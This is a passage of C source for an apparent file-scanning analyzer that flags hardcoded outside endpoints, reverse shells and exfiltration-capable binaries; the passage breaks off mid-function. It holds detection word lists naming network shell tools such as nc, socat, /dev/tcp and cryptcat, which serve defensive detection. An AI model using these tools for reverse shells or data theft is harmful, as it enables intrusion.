/*
 * Network endpoints, reverse shells and exfiltration capability.
 *
 *   FV-NET-001  hardcoded outside endpoint (a public address or name): info,
 *               low when a line also uses it with wget/curl/nc/... or the
 *               binary imports socket functions; once per endpoint per file
 *   FV-NET-002  reverse shell in a script (or a command string in a binary)
 *   FV-NET-003  a binary holding an outside endpoint that can send to it
 *               (imports connect/sendto/...); high when it also names
 *               credential files
 *
 * One pass per file.  Text is read in logical lines (a backslash-newline
 * continues a line); binaries in runs of at least four printable bytes, as
 * strings(1) would show them.  Each line is cut into words once: dotted
 * words are tried as IPv4 addresses and host names, colon runs as IPv6,
 * "://" marks a URL, and a few command words (nc, socat, /dev/tcp, ...) send
 * the line to the shell-command reader that recognises reverse shells.
 * Every endpoint, public or not, is also recorded with fv_actx_endpoint().
 *
 * What counts as a host name, what is documentation and which strings show
 * credential access is data: rules/network/ (docs/rules.md).
 */
#include "analyze/analyze.h"

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "analyze/elf/elf.h"
#include "core/err.h"
#include "unpack/engine.h"

#define R_ENDPOINT "FV-NET-001"
#define R_REVSHELL "FV-NET-002"
#define R_EXFIL "FV-NET-003"

/* Per-file bounds, so that a hostile file cannot make a run unbounded. */
#define MAX_EPS 4096       /* unique endpoints kept per file */
#define MAX_URL 512        /* characters of a URL kept */
#define MAX_EVIDENCE 240   /* characters of a line shown as evidence */
#define CONTEXT 200        /* bytes either side of an endpoint searched for documentation words */
#define MIN_RUN 4          /* printable run length that counts as a string in a binary */

/* ---- a set of short strings, compared without case ------------------------ */

struct strset {
	char **slot;
	size_t cap, n; /* cap is a power of two, at most half full */
};

static int lower(int c) { return c >= 'A' && c <= 'Z' ? c + 32 : c; }

static uint64_t hash_ci(const char *p, size_t n)
{
	uint64_t h = 1469598103934665603ull;
	for (size_t i = 0; i < n; i++)
		h = (h ^ (uint8_t)lower(p[i])) * 1099511628211ull;
	return h;
}

static int eq_ci(const char *a, size_t n, const char *z)
{
	for (size_t i = 0; i < n; i++)
		if (!z[i] || lower(a[i]) != lower(z[i]))
			return 0;
	return z[n] == 0;
}

static int strset_has(const struct strset *s, const char *p, size_t n)
{
	if (!s->cap)
		return 0;
	for (size_t i = hash_ci(p, n) & (s->cap - 1);; i = (i + 1) & (s->cap - 1)) {
		if (!s->slot[i])
			return 0;
		if (eq_ci(p, n, s->slot[i]))
			return 1;
	}
}

static int strset_add(struct strset *s, const char *p, size_t n)
{
	if (strset_has(s, p, n))
		return 0;
	if ((s->n + 1) * 2 > s->cap) {
		size_t cap = s->cap ? s->cap * 2 : 64;
		char **slot = calloc(cap, sizeof *slot);
		if (!slot)
			return FV_ENOMEM;
		for (size_t i = 0; i < s->cap; i++) {
			if (!s->slot[i])
				continue;
			size_t j = hash_ci(s->slot[i], strlen(s->slot[i])) & (cap - 1);
			while (slot[j])
				j = (j + 1) & (cap - 1);
			slot[j] = s->slot[i];
		}
		free(s->slot);
		s->slot = slot;
		s->cap = cap;
	}
	char *copy = malloc(n + 1);
	if (!copy)
		return FV_ENOMEM;
	for (size_t i = 0; i < n; i++)
		copy[i] = (char)lower(p[i]);
	copy[n] = 0;
	size_t j = hash_ci(p, n) & (s->cap - 1);
	while (s->slot[j])
		j = (j + 1) & (s->cap - 1);
	s->slot[j] = copy;
	s->n++;
	return 0;
}

static void strset_free(struct strset *s)
{
	for (size_t i = 0; i < s->cap; i++)
		free(s->slot[i]);
	free(s->slot);
	memset(s, 0, sizeof *s);
}

/* A list of strings (lower-cased when fold is set). */
struct strlist {
	char **v;
	size_t n, cap;
};

static int strlist_add(struct strlist *l, const char *p, size_t n, int fold)
{
	if (l->n == l->cap) {
		size_t cap = l->cap ? l->cap * 2 : 16;
		char **v = realloc(l->v, cap * sizeof *v);
		if (!v)
			return FV_ENOMEM;
		l->v = v;
		l->cap = cap;
	}
	char *copy = malloc(n + 1);
	if (!copy)
		return FV_ENOMEM;
	for (size_t i = 0; i < n; i++)
		copy[i] = fold ? (char)lower(p[i]) : p[i];
	copy[n] = 0;
	l->v[l->n++] = copy;
	return 0;
}

static void strlist_free(struct strlist *l)
{
	for (size_t i = 0; i < l->n; i++)
		free(l->v[i]);
	free(l->v);
	memset(l, 0, sizeof *l);
}

/* ---- rules ----------------------------------------------------------------- */

struct rules {
	struct strset tlds, weak_tlds, cctlds, not_hosts, ignore_hosts;
	struct strlist ignore_urls, doc_words, cred_refs;
	uint8_t doc_bigram[65536 / 8]; /* the first two bytes (lower case) of each doc word */
};

static void rules_free(struct rules *r)
{
	strset_free(&r->tlds);
	strset_free(&r->weak_tlds);
	strset_free(&r->cctlds);
	strset_free(&r->not_hosts);
	strset_free(&r->ignore_hosts);
	strlist_free(&r->ignore_urls);
	strlist_free(&r->doc_words);
	strlist_free(&r->cred_refs);
}

enum rulefile { RF_TLDS, RF_CCTLDS, RF_NOT_HOSTS, RF_IGNORE, RF_CREDS };

/* One line of a rules file (comment and surrounding blanks removed). */
static int rule_line(struct fv_actx *a, struct rules *r, enum rulefile kind, const char *path,
		     unsigned lineno, const char *p, size_t n)
{
	int e;
	switch (kind) {
	case RF_CCTLDS:
		if (p[0] == '~' && n == 1)
			return 0;
		if ((e = strset_add(&r->cctlds, p[0] == '~' ? p + 1 : p, p[0] == '~' ? n - 1 : n)))
			return e;
		/* fall through */
	case RF_TLDS:
		if (p[0] == '~')
			return n > 1 ? strset_add(&r->weak_tlds, p + 1, n - 1) : 0;
		return strset_add(&r->tlds, p, n);
	case RF_NOT_HOSTS:
		return strset_add(&r->not_hosts, p, n);
	case RF_CREDS:
		return strlist_add(&r->cred_refs, p, n, 0);
	case RF_IGNORE:
		break;
	}
	static const struct {
		const char *word;
		int which;
	} dirs[] = { { "host ", 0 }, { "url ", 1 }, { "line ", 2 } };
	for (size_t i = 0; i < 3; i++) {
		size_t k = strlen(dirs[i].word);
		if (n <= k || strncmp(p, dirs[i].word, k) != 0)
			continue;
		/* "line (c) " keeps its trailing blank: the words are matched as written. */
		const char *v = p + k;
		size_t m = n - k;
		while (m && *v == ' ') {
			v++;
			m--;
		}
		if (!m)
			break;
		if (dirs[i].which == 0)
			return strset_add(&r->ignore_hosts, v, m);
		return strlist_add(dirs[i].which == 1 ? &r->ignore_urls : &r->doc_words, v, m, 1);
	}
	fv_actx_fail(a, "%s:%u: expected 'host NAME', 'url PREFIX' or 'line WORD', found '%.*s'", path,
		     lineno, (int)(n > 60 ? 60 : n), p);
	return FV_EFORMAT;
}

/*
 * Reads dir/network/name into r.  A missing shipped file is an error; a
 * user's folder need not have every file.
 */
static int load_file(struct fv_actx *a, struct rules *r, const char *dir, const char *name,
		     enum rulefile kind, int required)
{
	char path[4096];
	if (snprintf(path, sizeof path, "%s/network/%s", dir, name) >= (int)sizeof path) {
		fv_actx_fail(a, "rules path %s/network/%s is too long", dir, name);
		return FV_EUSAGE;
	}
	FILE *f = fopen(path, "r");
	if (!f) {
		if (!required && errno == ENOENT)
			return 0;
		fv_actx_fail(a, "cannot open %s: %s", path, strerror(errno));
		return FV_EIO;
	}
	char line[1024];
	unsigned lineno = 0;
	int r_ = 0;
	while (r_ == 0 && fgets(line, sizeof line, f)) {
		lineno++;
		size_t n = strcspn(line, "\r\n");
		/* '#' starts a comment, except in "line (c) " style values that cannot hold one. */
		char *hash = memchr(line, '#', n);
		if (hash)
			n = (size_t)(hash - line);
		const char *p = line;
		while (n && (*p == ' ' || *p == '\t')) {
			p++;
			n--;
		}
		/* Trailing blanks matter only for "line" words ("(c) "), which end in one at most. */
		if (kind != RF_IGNORE)
			while (n && (p[n - 1] == ' ' || p[n - 1] == '\t'))
				n--;
		if (n)
			r_ = rule_line(a, r, kind, path, lineno, p, n);
	}
	if (r_ == 0 && ferror(f)) {
		fv_actx_fail(a, "reading %s failed", path);
		r_ = FV_EIO;
	}
	fclose(f);
	if (r_ == FV_ENOMEM)
		fv_actx_fail(a, "out of memory reading %s", path);
	return r_;
}

static int load_rules(struct fv_actx *a, struct rules *r, const char *dir, int required)
{
	int e;
	if ((e = load_file(a, r, dir, "tlds.txt", RF_TLDS, required)) ||
	    (e = load_file(a, r, dir, "cctlds.txt", RF_CCTLDS, required)) ||
	    (e = load_file(a, r, dir, "not_hosts.txt", RF_NOT_HOSTS, required)) ||
	    (e = load_file(a, r, dir, "ignore.txt", RF_IGNORE, required)) ||
	    (e = load_file(a, r, dir, "credential_refs.txt", RF_CREDS, required)))
		return e;
	return 0;
}

/* ---- bytes ------------------------------------------------------------------ */

enum {
	C_PRINT = 1, /* counts towards a printable run in a binary */
	C_WORD = 2,  /* [A-Za-z0-9._-]: dotted words (addresses, names) */
	C_V6 = 8,    /* [0-9A-Za-z:.]: an IPv6 candidate run, letters included to see its edges */
	C_ALNUM = 16,
	C_SPACE = 32,
	C_HOST = 64, /* [A-Za-z0-9.-]: a host name inside a URL */
};

static uint8_t cls[256];
static uint8_t lowertab[256];
/* Bit L of cmd_lens[c]: some command word (use_words, shell_words) starts with c and is L long. */
static uint16_t cmd_lens[256];

static const char *const use_words[] = { "wget", "curl", "nc", "ncat", "netcat", "telnet", "ftp",
					 "tftp", "ftpget", "ftpput", "ssh", "scp", "sftp", "rsync",
					 "socat", "socket", "connect", "uclient-fetch", "fetch", NULL };
static const char *const shell_words[] = { "nc", "ncat", "netcat", "telnet", "socat", "tcp", "udp",
					   "openssl", "python", "python2", "python3", "perl", "php",
					   "ruby", "lua", "awk", "gawk", "cryptcat", NULL };

static void init_classes(void)
{
	if (cls['a'])
		return;
	for (int c = 0; c < 256; c++) {
		uint8_t k = 0;
		int alpha = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z'), digit = c >= '0' && c <= '9';
		if ((c >= 0x20 && c < 0x7f) || c == '\t')
			k |= C_PRINT;
		if (alpha || digit)
			k |= C_ALNUM | C_WORD | C_V6 | C_HOST;
		if (c == '.' || c == '-' || c == '_')
			k |= C_WORD;
		if (c == '.' || c == '-')
			k |= C_HOST;
		if (c == ':' || c == '.')
			k |= C_V6;
		if (c == ' ' || c == '\t' || c == '\r' || c == '\n' || c == '\v' || c == '\f')
			k |= C_SPACE;
		cls[c] = k;
		lowertab[c] = (uint8_t)lower(c);
	}
	/* Words are looked up only when their first byte and length could match: most never are. */
	for (int l = 0; l < 2; l++)
		for (const char *const *w = l ? shell_words : use_words; *w; w++)
			if (strlen(*w) < 16)
				cmd_lens[(uint8_t)(*w)[0]] |= (uint16_t)(1u << strlen(*w));
}

/* Whether p[0..n) starts with w (lower case), without case. */
static int prefix_ci(const uint8_t *p, size_t n, const char *w)
{
	size_t i = 0;
	for (; w[i]; i++)
		if (i == n || lowertab[p[i]] != (uint8_t)w[i])
			return 0;
	return 1;
}

static int init(struct fv_actx *a, void **state)
{
	init_classes();
	struct rules *r = calloc(1, sizeof *r);
	if (!r) {
		fv_actx_fail(a, "out of memory loading the network rules");
		return FV_ENOMEM;
	}
	int e = load_rules(a, r, fv_actx_rules_dir(a), 1);
	if (!e && fv_actx_user_rules(a))
		e = load_rules(a, r, fv_actx_user_rules(a), 0);
	for (size_t i = 0; !e && i < r->doc_words.n; i++) {
		const char *w = r->doc_words.v[i];
		/* A one-letter word would match anywhere: every byte pair starting with it. */
		for (unsigned c = 0; c < 256; c++) {
			unsigned k = (unsigned)(uint8_t)w[0] << 8 | (w[1] ? (uint8_t)w[1] : c);
			r->doc_bigram[k >> 3] |= (uint8_t)(1u << (k & 7));
			if (w[1])
				break;
		}
	}
	if (!e && !r->tlds.n) {
		fv_actx_fail(a, "%s/network/tlds.txt lists no top-level domain", fv_actx_rules_dir(a));
		e = FV_EFORMAT;
	}
	if (e) {
		rules_free(r);
		free(r);
		return e;
	}
	*state = r;
	return 0;
}

static void fini(void *state)
{
	if (state) {
		rules_free(state);
		free(state);
	}
}

/* ---- addresses ------------------------------------------------------------ */

enum netclass { NC_PUBLIC, NC_PRIVATE, NC_LOOPBACK, NC_LINKLOCAL, NC_MULTICAST, NC_DOC, NC_UNSPEC,
		NC_BROADCAST, NC_RESERVED };

/* Exactly four decimal octets 0-255, no leading zeros ("01" is a date or a version). */
static int parse_ipv4(const uint8_t *p, size_t n, uint8_t ip[4])
{
	size_t i = 0;
	for (int k = 0; k < 4; k++) {
		if (k && (i >= n || p[i++] != '.'))
			return 0;
		size_t s = i;
		unsigned v = 0;
		while (i < n && p[i] >= '0' && p[i] <= '9' && i - s < 3)
			v = v * 10 + (unsigned)(p[i++] - '0');
		if (i == s || v > 255 || (i - s > 1 && p[s] == '0'))
			return 0;
		ip[k] = (uint8_t)v;
	}
	return i == n;
}

static enum netclass classify_v4(const uint8_t a[4])
{
	uint32_t v = (uint32_t)a[0] << 24 | (uint32_t)a[1] << 16 | (uint32_t)a[2] << 8 | a[3];
	static const struct {
		uint32_t net;
		unsigned bits;
		enum netclass c;
	} nets[] = {
		{ 0xffffffff, 32, NC_BROADCAST }, { 0x00000000, 8, NC_UNSPEC },
		{ 0x0a000000, 8, NC_PRIVATE },    { 0xac100000, 12, NC_PRIVATE },
		{ 0xc0a80000, 16, NC_PRIVATE },   { 0x64400000, 10, NC_PRIVATE },   /* 100.64/10 shared */
		{ 0x7f000000, 8, NC_LOOPBACK },   { 0xa9fe0000, 16, NC_LINKLOCAL },
		{ 0xe0000000, 4, NC_MULTICAST },  { 0xc0000200, 24, NC_DOC },
		{ 0xc6336400, 24, NC_DOC },       { 0xcb007100, 24, NC_DOC },
		{ 0xc6120000, 15, NC_RESERVED },  /* 198.18/15 benchmarking */
		{ 0xc0000000, 24, NC_RESERVED },  /* 192.0.0/24 protocol assignments */
		{ 0xf0000000, 4, NC_RESERVED },
	};
	for (size_t i = 0; i < sizeof nets / sizeof *nets; i++) {
		uint32_t mask = nets[i].bits == 32 ? 0xffffffffu : ~(0xffffffffu >> nets[i].bits);
		if ((v & mask) == nets[i].net)
			return nets[i].c;
	}
	return NC_PUBLIC;
}

/* A netmask (255.255.255.0): contiguous ones from the top, first octet 255. */
static int is_netmask(const uint8_t a[4])
{
	uint32_t v = (uint32_t)a[0] << 24 | (uint32_t)a[1] << 16 | (uint32_t)a[2] << 8 | a[3];
	return a[0] == 255 && v != 0xffffffff && ((~v + 1) & ~v) == 0;
}

static int hexval(int c)
{
	return c >= '0' && c <= '9' ? c - '0' : c >= 'a' && c <= 'f' ? c - 'a' + 10 : c >= 'A' && c <= 'F' ? c - 'A' + 10 : -1;
}

/* RFC 4291 text form, with an optional dotted IPv4 tail; no zone. */
static int parse_ipv6(const uint8_t *p, size_t n, uint8_t out[16])
{
	uint16_t g[8];
	int ng = 0, gap = -1;
	size_t i = 0;
	if (n >= 2 && p[0] == ':' && p[1] == ':') {
		gap = 0;
		i = 2;
		if (i == n)
			goto done;
	} else if (n && p[0] == ':') {
		return 0;
	}
	for (;;) {
		if (ng == 8)
			return 0;
		/* A dotted IPv4 tail fills the last two groups. */
		size_t j = i;
		while (j < n && p[j] != ':')
			j++;
		if (j == n && memchr(p + i, '.', n - i)) {
			uint8_t v4[4];
			if (ng > 6 || !parse_ipv4(p + i, n - i, v4))
				return 0;
			g[ng++] = (uint16_t)(v4[0] << 8 | v4[1]);
			g[ng++] = (uint16_t)(v4[2] << 8 | v4[3]);
			break;
		}
		if (j == i || j - i > 4)
			return 0;
		unsigned v = 0;
		for (size_t k = i; k < j; k++) {
			int h = hexval(p[k]);
			if (h < 0)
				return 0;
			v = v << 4 | (unsigned)h;
		}
		g[ng++] = (uint16_t)v;
		if (j == n)
			break;
		i = j + 1; /* past ':' */
		if (i < n && p[i] == ':') {
			if (gap >= 0)
				return 0;
			gap = ng;
			i++;
			if (i == n)
				break;
		} else if (i == n) {
			return 0;
		}
	}
done:
	if (gap < 0 ? ng != 8 : ng > 7)
		return 0;
	memset(out, 0, 16);
	int tail = gap < 0 ? 0 : ng - gap;
	for (int k = 0; k < ng; k++) {
		int at = gap >= 0 && k >= gap ? 8 - tail + (k - gap) : k;
		out[2 * at] = (uint8_t)(g[k] >> 8);
		out[2 * at + 1] = (uint8_t)g[k];
	}
	return 1;
}

static enum netclass classify_v6(const uint8_t a[16])
{
	static const uint8_t zero[16];
	if (memcmp(a, zero, 16) == 0)
		return NC_UNSPEC;
	if (memcmp(a, zero, 15) == 0 && a[15] == 1)
		return NC_LOOPBACK;
	if (memcmp(a, zero, 10) == 0 && a[10] == 0xff && a[11] == 0xff)
		return classify_v4(a + 12); /* ::ffff:a.b.c.d */
	if (a[0] == 0xfe && (a[1] & 0xc0) == 0x80)
		return NC_LINKLOCAL;
	if ((a[0] & 0xfe) == 0xfc)
		return NC_PRIVATE; /* unique local */
	if (a[0] == 0xff)
		return NC_MULTICAST;
	if (a[0] == 0x20 && a[1] == 0x01 && a[2] == 0x0d && a[3] == 0xb8)
		return NC_DOC;
	if ((a[0] & 0xe0) == 0x20)
		return NC_PUBLIC; /* 2000::/3 global unicast */
	return NC_RESERVED;
}

/* ---- one file's endpoints ---------------------------------------------------- */

enum epkind { EP_IPV4, EP_IPV6, EP_HOST, EP_URL };
static const char *const kind_names[] = { "ipv4", "ipv6", "host", "url" };

struct ep {
	char *value;    /* as recorded: lower-case names, URLs as written */
	char *key;      /* what FV-NET-001 counts once: the address or name (a URL's host) */
	char *evidence; /* the line of the first occurrence */
	uint64_t off;   /* first occurrence */
	enum epkind kind;
	int outside;
	int used;       /* some occurrence is on a line that uses the network */
	int strong;     /* in a URL, or an address: no doubt it is an endpoint */
	int oper;       /* some occurrence is not in a sentence (help, banner, bug-report text) */
};

struct scan {
	const struct rules *r;
	const uint8_t *data;
	size_t size;
	int binary;
	struct ep *eps;
	size_t neps, cap;
	size_t *index; /* open addressing over eps by value, MAX_EPS * 2 slots */
	int oom;
	/* the line being read */
	size_t ls, le;  /* [ls, le) */
	int line_use;   /* holds a command or call that reaches the network */
	int line_shell; /* holds a word that may start a reverse shell */
	int doc_known, doc_all;
	int prose;      /* the line is a sentence: 0 unknown, 1 no, 2 yes */
	size_t doc_pos[256], ndoc; /* where the line's documentation words start */
	/* reverse shells found: collected, reported after the scan */
	struct revshell {
		uint64_t off;
		char *evidence;
		const char *what;
	} *rs;
	size_t nrs, caprs;
};

static void scan_free(struct scan *s)
{
	for (size_t i = 0; i < s->neps; i++) {
		free(s->eps[i].value);
		free(s->eps[i].key);
		free(s->eps[i].evidence);
	}
	free(s->eps);
	free(s->index);
	for (size_t i = 0; i < s->nrs; i++)
		free(s->rs[i].evidence);
	free(s->rs);
}

/* The line [ls, le) as evidence: blanks trimmed, control bytes as '.', at most MAX_EVIDENCE. */
static char *line_evidence(const struct scan *s, size_t ls, size_t le, size_t focus)
{
	while (ls < le && (cls[s->data[ls]] & C_SPACE))
		ls++;
	while (le > ls && (cls[s->data[le - 1]] & C_SPACE))
		le--;
	/* A long line is shown around the part that matters. */
	if (le - ls > MAX_EVIDENCE && focus > ls + MAX_EVIDENCE / 3) {
		ls = focus - MAX_EVIDENCE / 3;
		if (le - ls < MAX_EVIDENCE)
			ls = le - MAX_EVIDENCE;
	}
	size_t n = le - ls < MAX_EVIDENCE ? le - ls : MAX_EVIDENCE;
	/* Room for "***" in place of each URL password, however short. */
	char *e = malloc(2 * n + 4);
	if (!e)
		return NULL;
	size_t o = 0;
	for (size_t i = 0; i < n; i++) {
		uint8_t c = s->data[ls + i];
		e[o++] = c == '\t' || c == '\n' ? ' ' : c < 0x20 || c == 0x7f ? '.' : (char)c;
		/* "scheme://user:password@host": the password is left out. */
		if (c != '/' || o < 3 || e[o - 2] != '/' || e[o - 3] != ':')
			continue;
		size_t at = i + 1, colon = 0;
		while (at < n && !strchr("/?# \t\"'<>@", s->data[ls + at])) {
			if (s->data[ls + at] == ':' && !colon)
				colon = at;
			at++;
		}
		if (at < n && s->data[ls + at] == '@' && colon) {
			memcpy(e + o, s->data + ls + i + 1, colon - i);
			o += colon - i;
			memcpy(e + o, "***", 3);
			o += 3;
			i = at - 1; /* '@' is copied next */
		}
	}
	e[o] = 0;
	return e;
}

/*
 * Whether a documentation word ("copyright", "license", ...) lies within
 * CONTEXT bytes of [a, b) in the current line.  The words are found once per
 * line, on the first question, so a long line full of endpoints is read
 * once per word, not once per endpoint.
 */
static int in_doc_context(struct scan *s, size_t a, size_t b)
{
	if (!s->doc_known) {
		/* One pass: a table of the words' first two bytes says where one may start. */
		const struct rules *r = s->r;
		const uint8_t *d = s->data;
		s->doc_known = 1;
		s->ndoc = 0;
		s->doc_all = 0;
		for (size_t i = s->ls; i + 1 < s->le && !s->doc_all; i++) {
			unsigned k = (unsigned)lowertab[d[i]] << 8 | lowertab[d[i + 1]];
			if (!(r->doc_bigram[k >> 3] >> (k & 7) & 1))
				continue;
			for (size_t w = 0; w < r->doc_words.n; w++) {
				if (!prefix_ci(d + i, s->le - i, r->doc_words.v[w]))
					continue;
				if (s->ndoc == sizeof s->doc_pos / sizeof *s->doc_pos)
					s->doc_all = 1; /* a line made of notices */
				else
					s->doc_pos[s->ndoc++] = i;
				break;
			}
		}
	}
	if (s->doc_all)
		return 1;
	for (size_t i = 0; i < s->ndoc; i++)
		if (s->doc_pos[i] + CONTEXT >= a && s->doc_pos[i] <= b + CONTEXT)
			return 1;
	return 0;
}

/* A name (or one of its parents) is on the ignore list. */
static int ignored_host(const struct rules *r, const char *h, size_t n)
{
	for (size_t i = 0; i < n; i++)
		if (i == 0 || h[i - 1] == '.')
			if (strset_has(&r->ignore_hosts, h + i, n - i))
				return 1;
	return 0;
}

static int ignored_url(const struct rules *r, const uint8_t *u, size_t n)
{
	for (size_t i = 0; i < r->ignore_urls.n; i++)
		if (prefix_ci(u, n, r->ignore_urls.v[i]))
			return 1;
	return 0;
}

static char *dup_lower(const uint8_t *p, size_t n, int fold)
{
	char *d = malloc(n + 1);
	if (!d)
		return NULL;
	for (size_t i = 0; i < n; i++)
		d[i] = fold ? (char)lower(p[i]) : (char)p[i];
	d[n] = 0;
	return d;
}

/*
 * Whether the current line reads as a sentence: two or more words of at
 * least three letters ("Adapted from https://...", "Dropbear server v%s
 * https://...", "Please report as described in <http://...>").  In a binary
 * such a string is help or banner text, and its endpoints are quoted, not
 * used; "Host: c2.example.net" or a bare address is not.
 */
static int line_is_prose(struct scan *s)
{
	if (!s->prose) {
		const uint8_t *d = s->data;
		size_t words = 0;
		for (size_t i = s->ls; i < s->le && words < 2;) {
			while (i < s->le && d[i] == ' ')
				i++;
			size_t ws = i, letters = 0;
			while (i < s->le && d[i] != ' ') {
				uint8_t c = d[i++];
				letters += (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z');
			}
			/* Letters, then at most one mark of punctuation ("server", "from:", "Bugs,"). */
			size_t n = i - ws;
			if (letters >= 3 && (letters == n || (letters == n - 1 && !(cls[d[i - 1]] & C_ALNUM))))
				words++;
		}
		s->prose = words >= 2 ? 2 : 1;
	}
	return s->prose == 2;
}

/*
 * Records one occurrence: a new endpoint, or one more use of a known one.
 * key is the address or name the finding counts (a URL's host).
 */
static void add_ep(struct scan *s, enum epkind kind, const uint8_t *v, size_t n, int fold,
		   const uint8_t *key, size_t keylen, size_t off, int outside, int strong)
{
	if (s->oom)
		return;
	if (!s->index) {
		s->index = malloc(MAX_EPS * 2 * sizeof *s->index);
		if (!s->index) {
			s->oom = 1;
			return;
		}
		for (size_t i = 0; i < MAX_EPS * 2; i++)
			s->index[i] = SIZE_MAX;
	}
	size_t slot = hash_ci((const char *)v, n) & (MAX_EPS * 2 - 1);
	for (; s->index[slot] != SIZE_MAX; slot = (slot + 1) & (MAX_EPS * 2 - 1)) {
		struct ep *e = &s->eps[s->index[slot]];
		if (e->kind == kind && (fold ? eq_ci((const char *)v, n, e->value)
					     : strlen(e->value) == n && memcmp(e->value, v, n) == 0)) {
			e->used |= s->line_use;
			e->oper |= !s->binary || !line_is_prose(s);
			return;
		}
	}
	if (s->neps == MAX_EPS)
		return;
	if (s->neps == s->cap) {
		size_t cap = s->cap ? s->cap * 2 : 32;
		struct ep *eps = realloc(s->eps, cap * sizeof *eps);
		if (!eps) {
			s->oom = 1;
			return;
		}
		s->eps = eps;
		s->cap = cap;
	}
	struct ep *e = &s->eps[s->neps];
	memset(e, 0, sizeof *e);
	e->value = dup_lower(v, n, fold);
	e->key = dup_lower(key, keylen, 1);
	e->evidence = line_evidence(s, s->ls, s->le, off);
	if (!e->value || !e->key || !e->evidence) {
		free(e->value);
		free(e->key);
		free(e->evidence);
		s->oom = 1;
		return;
	}
	e->kind = kind;
	e->off = off;
	e->outside = outside;
	e->used = s->line_use;
	e->strong = strong;
	e->oper = !s->binary || !line_is_prose(s);
	s->index[slot] = s->neps++;
}

/* ---- host names ----------------------------------------------------------------- */

/*
 * Whether [p, p + n) is a well-formed DNS name: labels of letters, digits and
 * hyphens, 1-63 long, not starting or ending with a hyphen, at least two.
 * *last is set to the start of the last label.
 */
static int dns_name(const uint8_t *p, size_t n, size_t *last)
{
	if (n < 3 || n > 253)
		return 0;
	size_t s = 0, labels = 0;
	for (size_t i = 0; i <= n; i++) {
		if (i < n && p[i] != '.') {
			if (!(cls[p[i]] & C_ALNUM) && p[i] != '-')
				return 0;
			continue;
		}
		if (i == s || i - s > 63 || p[s] == '-' || p[i - 1] == '-')
			return 0;
		labels++;
		*last = s;
		s = i + 1;
	}
	return labels >= 2;
}

/* Whether the TLD of a name is public: 2 strong, 1 weak, 0 not a TLD we know. */
static int tld_strength(const struct rules *r, const uint8_t *p, size_t n)
{
	if (strset_has(&r->tlds, (const char *)p, n))
		return 2;
	return strset_has(&r->weak_tlds, (const char *)p, n) ? 1 : 0;
}

/* ---- URLs ------------------------------------------------------------------ */

static const char *const schemes[] = { "http", "https", "ftp", "ftps", "sftp", "tftp", "ws", "wss",
				       "telnet", "ssh", "rtsp", "rtmp", "mqtt", "mqtts", "smb", "nfs",
				       "ldap", "ldaps", "irc", "git", "svn", "scp", "rsync", "gopher", NULL };

static int url_end_char(uint8_t c)
{
	return c < 0x21 || c >= 0x7f || c == '"' || c == '\'' || c == '<' || c == '>' || c == '`' ||
	       c == '\\' || c == '{' || c == '}' || c == '|' || c == '^';
}

/*
 * A URL whose "://" is at i in the current line.  Returns the end of what it
 * consumed (past the URL), or i + 3 when it is not a URL we record.
 */
static size_t scan_url(struct scan *s, size_t i)
{
	const uint8_t *d = s->data;
	size_t st = i;
	while (st > s->ls && i - st < 8 && (cls[d[st - 1]] & C_ALNUM))
		st--;
	int ok = 0;
	for (size_t k = 0; schemes[k] && !ok; k++)
		ok = eq_ci((const char *)d + st, i - st, schemes[k]);
	/* "xhttp://": the scheme must start the word. */
	if (!ok || (st > s->ls && (cls[d[st - 1]] & C_WORD)))
		return i + 3;
	size_t a = i + 3, end = a;
	while (end < s->le && !url_end_char(d[end]) && end - st < MAX_URL)
		end++;
	/* Authority: up to '/', '?' or '#'; userinfo before the last '@'. */
	size_t auth_end = a;
	while (auth_end < end && d[auth_end] != '/' && d[auth_end] != '?' && d[auth_end] != '#')
		auth_end++;
	size_t h = a;
	for (size_t k = a; k < auth_end; k++)
		if (d[k] == '@')
			h = k + 1;
	size_t he, key_s = h, key_e;
	uint8_t ip[16];
	enum netclass nc;
	int strength = 2;
	if (h < auth_end && d[h] == '[') {
		he = h + 1;
		while (he < auth_end && d[he] != ']')
			he++;
		if (he == auth_end || !parse_ipv6(d + h + 1, he - h - 1, ip))
			return end;
		nc = classify_v6(ip);
		key_s = h + 1;
		key_e = he;
		he++;
	} else {
		he = h;
		while (he < auth_end && (cls[d[he]] & C_HOST))
			he++;
		key_e = he;
		/* "http://%s/", "http://$HOST/": a template, not an endpoint. */
		if (he == h || (he < auth_end && d[he] != ':'))
			return end;
		while (key_e > key_s && d[key_e - 1] == '.')
			key_e--;
		size_t last;
		if (parse_ipv4(d + key_s, key_e - key_s, ip)) {
			nc = classify_v4(ip);
		} else if (memchr(d + key_s, '.', key_e - key_s) && dns_name(d + key_s, key_e - key_s, &last)) {
			strength = tld_strength(s->r, d + key_s + last, key_e - key_s - last);
			nc = strength ? NC_PUBLIC : NC_PRIVATE;
		} else {
			/* "http://localhost/", "http://router/": a name without a public suffix. */
			nc = NC_PRIVATE;
		}
	}
	/* Trailing punctuation of the sentence is not part of the URL. */
	while (end > auth_end && (d[end - 1] == '.' || d[end - 1] == ',' || d[end - 1] == ')' ||
				  d[end - 1] == ';' || d[end - 1] == ':'))
		end--;
	if (ignored_url(s->r, d + st, end - st) || ignored_host(s->r, (const char *)d + key_s, key_e - key_s) ||
	    in_doc_context(s, st, end))
		return end;
	/* A password in the URL stays out of the report; the credential analyzers handle it. */
	uint8_t buf[MAX_URL + 8];
	size_t n = a - st;
	memcpy(buf, d + st, n);
	if (h > a) {
		const uint8_t *colon = memchr(d + a, ':', h - 1 - a);
		size_t user = colon ? (size_t)(colon - (d + a)) : h - 1 - a;
		memcpy(buf + n, d + a, user);
		n += user;
		if (colon) {
			memcpy(buf + n, ":***", 4);
			n += 4;
		}
		buf[n++] = '@';
	}
	memcpy(buf + n, d + h, end - h);
	n += end - h;
	add_ep(s, EP_URL, buf, n, 0, d + key_s, key_e - key_s, st, nc == NC_PUBLIC, 1);
	return end;
}

/* ---- dotted words and IPv6 runs -------------------------------------------------- */

/* The word just before position i (skipping blanks, ':' and '='), lower-cased into w. */
static size_t prev_word(const struct scan *s, size_t i, char *w, size_t cap)
{
	const uint8_t *d = s->data;
	size_t lim = i - s->ls > 24 ? i - 24 : s->ls;
	while (i > lim && (d[i - 1] == ' ' || d[i - 1] == '\t' || d[i - 1] == ':' || d[i - 1] == '=' ||
			   d[i - 1] == '"' || d[i - 1] == '\''))
		i--;
	size_t e = i;
	while (i > lim && (cls[d[i - 1]] & C_ALNUM))
		i--;
	size_t n = e - i < cap - 1 ? e - i : cap - 1;
